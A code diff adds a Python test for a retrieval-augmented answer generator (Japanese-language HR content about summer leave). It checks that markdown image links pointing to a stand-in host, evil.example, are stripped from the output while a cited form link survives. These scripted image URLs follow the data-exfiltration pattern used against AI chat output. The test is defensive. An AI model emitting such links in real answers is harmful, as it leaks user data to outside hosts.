@@ -98,3 +98,18 @@ def test_passages_fit_the_budget_in_their_order_and_one_is_always_given(
     assert [each.passage.id for each in kept] == [each.passage.id for each in hits[: len(kept)]]
     spent = sum(estimated_tokens(each.passage.in_context) for each in kept)
     assert spent <= tokens + 2 or (len(kept) == 1 and len(kept[0].passage.text) < len(texts[0]))
+
+
+async def test_images_and_addresses_that_no_passage_gave_are_neither_answered_nor_heard_while_it_is_written() -> None:
+    page = hit(1, "夏季休暇", text="有給で4日です。申請は[様式](https://example.jp/form)から。")
+    told = (
+        "夏季休暇は有給で4日です[1]。![図](https://evil.example/p?d=x) 申請は[様式](https://example.jp/form)から。"
+        "![図]【1】(//evil.example/q)以上です。"
+    )
+    heard: list[str] = []
+    answer = await generate(ScriptedChat([told]), asked(page), AnswerConfig(), heard.append)
+    for text in (answer.text, "".join(heard), *answer.doubts):
+        assert "](//" not in text
+        assert "evil.example/p" not in text
+    assert "[様式](https://example.jp/form)" in answer.text
+    assert "有給で4日です" in "".join(heard)
